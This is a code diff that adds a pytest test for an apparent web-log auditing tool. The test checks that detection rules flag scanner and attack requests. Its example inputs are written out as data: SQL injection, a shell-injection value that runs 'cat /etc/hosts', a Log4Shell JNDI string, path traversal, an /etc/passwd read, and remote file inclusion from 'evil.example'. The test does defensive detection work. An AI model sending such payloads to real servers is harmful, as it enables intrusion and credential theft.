@@ -284,3 +284,45 @@ def test_now_compares_the_last_window(tmp_path: Path) -> None:
     assert names[-1] == "now"
     r2, _ = problems(log)
     assert "now" not in [s.name for s in r2.sections]
+
+
+def test_probe_registry_names_each_kind() -> None:
+    """Each registry row catches its example, and ordinary requests match none."""
+    from logaudit.analyze.problems.tables import probe_codes, probes
+
+    examples = {
+        "wordpress-login": ("/wp-login.php", ""),
+        "wordpress-admin": ("/blog/xmlrpc.php", ""),
+        "env-file": ("/.env", ""),
+        "git-metadata": ("/.git/HEAD", ""),
+        "phpmyadmin": ("/phpMyAdmin-5.1/index.php", ""),
+        "cgi-bin": ("/cgi-bin/luci", ""),
+        "php-shell": ("/uploads/shell.php", ""),
+        "aws-credentials": ("/.aws/credentials", ""),
+        "config-files": ("/wp-config.php", ""),
+        "path-traversal": ("/static/..%2f..%2fetc", ""),
+        "etc-passwd": ("/view", "file=/etc/passwd"),
+        "sql-injection": ("/item", "id=1%27%20OR%20%271%27%3D%271"),
+        "shell-injection": ("/ping", "host=1.1.1.1;cat%20/etc/hosts"),
+        "log4shell": ("/", "x=${jndi:ldap://a/b}"),
+        "remote-file-inclusion": ("/index.php", "n=http://evil.example/x.txt?"),
+    }
+    assert set(examples) == {p.name for p in probes()}
+    ordinary = [
+        ("/", ""),
+        ("/products/12", "color=red"),
+        ("/search", "q=union+station"),
+        ("/login", ""),
+        ("/blog/environment", ""),
+        ("/go", "to=https://example.com/"),
+    ]
+    rows = [*examples.values(), *ordinary]
+    chunk = pd.DataFrame(
+        {
+            "path": pd.Categorical([r[0] for r in rows]),
+            "query": pd.Categorical([r[1] for r in rows]),
+        }
+    )
+    names = [p.name for p in probes()]
+    got = [names[i] if i >= 0 else None for i in probe_codes(chunk)]
+    assert got == [*examples, *[None] * len(ordinary)]
